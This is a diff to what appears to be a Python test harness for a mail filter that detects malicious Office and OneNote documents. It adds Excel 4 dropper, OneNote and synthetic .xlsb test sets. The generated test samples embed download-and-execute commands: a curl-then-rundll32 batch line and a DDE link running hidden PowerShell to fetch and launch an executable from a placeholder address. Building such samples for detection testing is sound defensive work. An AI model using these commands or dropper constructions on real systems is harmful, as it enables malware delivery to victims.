@@ -8,7 +8,12 @@ Sets (each skipped cleanly when absent):
     rtfobj/issue_251.rtf, DDE samples, external-link (remote oleObject) samples;
   - OneNote droppers and benign notebooks built here from ClamAV's clam.exe.2007.one
     (the embedded PE replaced by an inert script, or by text, or no embedded file);
-  - benign documents: office-apache-poi, office-xlsxwriter-vba, oletools harmless-clean*.
+  - benign documents: office-apache-poi, office-xlsxwriter-vba, oletools harmless-clean*;
+  - Excel 4 macro droppers (.xls, .xlsm, .xlsb) and two test workbooks of
+    XLMMacroDeobfuscator (fetch.sh: build/maldocs/xlm; types xlm-xls/xlm-xlsm/xlm-xlsb);
+  - benign notebooks of onenote.rs and one-extract (build/maldocs/one), and a dropper
+    derived from one-extract's example.one (its PNG replaced by an inert .cmd);
+  - a generated .xlsb with a DDE external link (type dde) and its twin without one.
 Each document is wrapped in a mail. caught = quarantine or reject. mraptor and rtfobj
 (a fetched oletools checkout in build/oletools run with Debian's /usr/bin/python3 and
 python3-olefile) are compared where they run.
@@ -25,10 +30,21 @@ os.chdir(ROOT)
 BIN = os.environ.get("FM_BIN", "milter/fileless-milter")
 CORPUS = os.environ.get("FM_CORPUS", "../shared/corpus")
 MAL = os.environ.get("FM_MALDOCS", "build/maldocs") + "/docs"
+XLMDIR = os.environ.get("FM_MALDOCS", "build/maldocs") + "/xlm"
+ONEDIR = os.environ.get("FM_MALDOCS", "build/maldocs") + "/one"
 OLETOOLS = os.environ.get("FM_OLETOOLS", "build/oletools")
 OLETOOLS_GIT = os.environ.get("FM_OLETOOLS_GIT", "/work/.mirror/decalage2+oletools/repo")
 R = {"passed": 0, "failed": 0, "skipped": 0}
 ORDER = {"clean": 0, "tag": 1, "quarantine": 2, "reject": 3}
+# Excel 4 droppers not caught yet (tagged or clean): an .xlsb saved under .xls whose
+# strings sit in the shared string table (not read), an .xlsm whose XLM needs its VBA half,
+# and a VBA-only .xlsm. Listed so that any other XLM dropper that falls below quarantine
+# fails the suite, and so that the table says how many of these are caught.
+XLM_KNOWN_MISSES = {
+    "179ef8970e996201815025c1390c88e1ab2ea59733e1c38ec5dbed9326d7242a.xls",
+    "63bacd873beeca6692142df432520614a1641ea395adaabc705152c55ab8c1d7.xlsm",
+    "xlsb-dir_6644bcba091c3104aebc0eab93d4247a884028aad389803d71f26541df325cf8.xlsm",
+}
 VBA_TYPES = ("doc", "xls", "docx", "xlsx", "docm", "xlsm", "dotm", "xlsb", "ppt", "pptm")
 
 
@@ -115,6 +131,87 @@ def onenote_sets():
     return [m for m in mal if m[2]], [b for b in ben if b[2]]
 
 
+def real_onenote_sets():
+    """benign notebooks of parser test suites (fetch.sh: build/maldocs/one), and droppers
+    built from the one with an embedded file (volexity's example.one: its PNG replaced by
+    an inert script under a script name)"""
+    ben = [("one", f, open(f, "rb").read()) for f in sorted(glob.glob(ONEDIR + "/*.one"))]
+    mal = []
+    for t, f, d in ben:
+        if "volexity_example" not in f:
+            continue
+        i = d.find(FDSO_H)
+        n = int.from_bytes(d[i + 16:i + 24], "little") if i >= 0 else 0
+        if i < 0 or d[i + 36:i + 44] != b"\x89PNG\r\n\x1a\n":
+            continue
+        cmd = (b"@echo off\r\nrem INERT test sample built by tests/maldocs/run.py; never executed\r\n"
+               b"curl -s -o %TEMP%\\u.dll http://198.51.100.7/u.dll && rundll32 %TEMP%\\u.dll,Start\r\n")
+        blob = cmd + b" " * (n - len(cmd)) if len(cmd) <= n else None
+        if blob is None:
+            continue
+        out = d[:i + 36] + blob + d[i + 36 + n:]
+        out = out.replace("clip_image013.png".encode("utf-16le"), "clip_invoice1.cmd".encode("utf-16le"))
+        mal.append(("one", "example.one with clip_invoice1.cmd (derived)", out))
+    return mal, ben
+
+
+def xlsb_dde():
+    """a minimal .xlsb (MS-XLSB 2.1.4) whose external link part is a DDE link cmd|'/c ...'
+    and whose sheet cell refers to it, and the same workbook without the link (benign)"""
+    import io, zipfile
+
+    def rec(t, body):
+        h = bytes([t & 0x7f | 0x80, t >> 7]) if t > 0x7f else bytes([t])
+        n, sz = len(body), b""
+        while True:
+            sz += bytes([n & 0x7f | (0x80 if n > 0x7f else 0)])
+            n >>= 7
+            if not n:
+                break
+        return h + sz + body
+
+    def ws(s):
+        return len(s).to_bytes(4, "little") + s.encode("utf-16le")
+    le = lambda v, k=4: v.to_bytes(k, "little")
+    wb = rec(131, b"") + rec(143, b"") + rec(156, le(0) + le(1) + ws("rId1") + ws("Sheet1")) + \
+        rec(144, b"") + rec(132, b"")
+    # A1: a BrtFmlaNum whose formula is a ptgNameX into the DDE link (ixti 0, name 1)
+    sheet = rec(129, b"") + rec(145, b"") + rec(0, le(0) + bytes(21)) + \
+        rec(9, le(0) + le(0) + bytes(8) + b"\0\0" + le(7) + b"\x39" + le(0, 2) + le(1) + le(0)) + \
+        rec(146, b"") + rec(130, b"")
+    link = rec(360, le(1, 2) + ws("cmd") + ws("/c powershell -w hidden iwr http://198.51.100.7/a -o a.exe;a.exe")) + \
+        rec(361, b"")
+    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org'
+          '/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.'
+          'binary.macroEnabled.main"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
+          'package.relationships+xml"/><Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/'
+          'vnd.ms-excel.worksheet"/>%s</Types>')
+    wrel = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.bin"/>%s'
+            '</Relationships>')
+    root = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/>'
+            '</Relationships>')
+    out = []
+    for dde in (True, False):
+        b = io.BytesIO()
+        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
+            z.writestr("[Content_Types].xml", ct % ('<Override PartName="/xl/externalLinks/externalLink1.bin" '
+                       'ContentType="application/vnd.ms-excel.externalLink"/>' if dde else ""))
+            z.writestr("_rels/.rels", root)
+            z.writestr("xl/workbook.bin", wb)
+            z.writestr("xl/_rels/workbook.bin.rels", wrel % ('<Relationship Id="rId2" Type="http://schemas.'
+                       'openxmlformats.org/officeDocument/2006/relationships/externalLink" Target='
+                       '"externalLinks/externalLink1.bin"/>' if dde else ""))
+            z.writestr("xl/worksheets/sheet1.bin", sheet)
+            if dde:
+                z.writestr("xl/externalLinks/externalLink1.bin", link)
+        out.append(b.getvalue())
+    return out
+
+
 def ext_of(path):
     e = path.rsplit(".", 1)[-1].lower()
     return {"dot": "doc", "xlt": "xls", "xltm": "xlsm", "dotm": "docm"}.get(e, e)
@@ -139,6 +236,16 @@ def sets():
     om, ob = onenote_sets()
     mal += om
     ben += ob
+    om, ob = real_onenote_sets()
+    mal += om
+    ben += ob
+    for f in sorted(glob.glob(XLMDIR + "/*.xls*")):  # Excel 4 droppers; the tool's test workbooks
+        t = "xlm-" + f.rsplit(".", 1)[-1]
+        (ben if re.match(r"(sum|addressings)\.", os.path.basename(f)) else mal).append(
+            (t, f, open(f, "rb").read()))
+    dde, plain = xlsb_dde()
+    mal.append(("dde", "synthetic dde-link.xlsb", dde))
+    ben.append(("xlsb", "synthetic plain.xlsb", plain))
     for pat in ["office-apache-poi/**/*", "office-xlsxwriter-vba/**/*.xlsm", "oletools/test-data/**/harmless-clean*"]:
         for f in sorted(glob.glob(os.path.join(CORPUS, pat), recursive=True)):
             t = ext_of(f)
@@ -188,7 +295,8 @@ def main():
         return 0
     tmp = tempfile.mkdtemp(prefix="fm-maldocs-")
     rm = scan([(os.path.basename(n).replace(" ", "_") if "/" in n else n.split()[-1], d) for t, n, d in mal], tmp)
-    rb = scan([(os.path.basename(n) if "/" in n else "notebook.one", d) for t, n, d in ben], tmp)
+    rb = scan([(os.path.basename(n) if "/" in n else n.split()[-1] if t != "one" else "notebook.one", d)
+               for t, n, d in ben], tmp)
     mr, rt = {}, {}
     have_ole = oletools_ready() and subprocess.run(["/usr/bin/python3", "-c", "import olefile, colorclass"],
                                                    capture_output=True).returncode == 0
@@ -238,8 +346,8 @@ def main():
           "|---|---|---|---|---|---|---|---|"]
     for t, e in sorted(types.items()):
         md.append("| %s | %d | %d | %d | %d | %s | %s | %s |" % (
-            t, e["n"], e["caught"], e["tag"], e["clean"], e["mr"] if have_ole and t not in ("rtf", "one", "dde", "remote") else "–",
-            e["mr_caught"] if have_ole and t not in ("rtf", "one", "dde", "remote") else "–",
+            t, e["n"], e["caught"], e["tag"], e["clean"], e["mr"] if have_ole and t in ("doc", "xls", "docx", "xlsx") else "–",
+            e["mr_caught"] if have_ole and t in ("doc", "xls", "docx", "xlsx") else "–",
             e["rt"] if have_ole and t == "rtf" else "–"))
     md += ["", "Benign documents:", "", "| type | files | tag or above | quarantine or above |", "|---|---|---|---|"]
     for t, e in sorted(bt.items()):
@@ -255,7 +363,12 @@ def main():
         if have_ole and t in ("doc", "xls", "docx", "xlsx"):
             check("%s: every document mraptor flags is caught (%d of %d)" % (t, e["mr_caught"], e["mr"]),
                   e["mr_caught"] == e["mr"], "; ".join(e["miss"][:5]))
-        if t in ("rtf", "one"):
+        if t.startswith("xlm-"):
+            misses = [m for m in e["miss"] if m.split()[0] not in XLM_KNOWN_MISSES]
+            known = sum(1 for m in e["miss"] if m.split()[0] in XLM_KNOWN_MISSES)
+            check("%s: every Excel 4 dropper outside the %d known misses is caught (%d of %d caught)"
+                  % (t, known, e["caught"], e["n"]), not misses, "; ".join(misses[:5]))
+        if t in ("rtf", "one", "dde"):
             check("%s: every carrier/dropper is caught (%d of %d)" % (t, e["caught"], e["n"]),
                   e["caught"] == e["n"], "; ".join(e["miss"][:5]))
     for t, e in sorted(bt.items()):
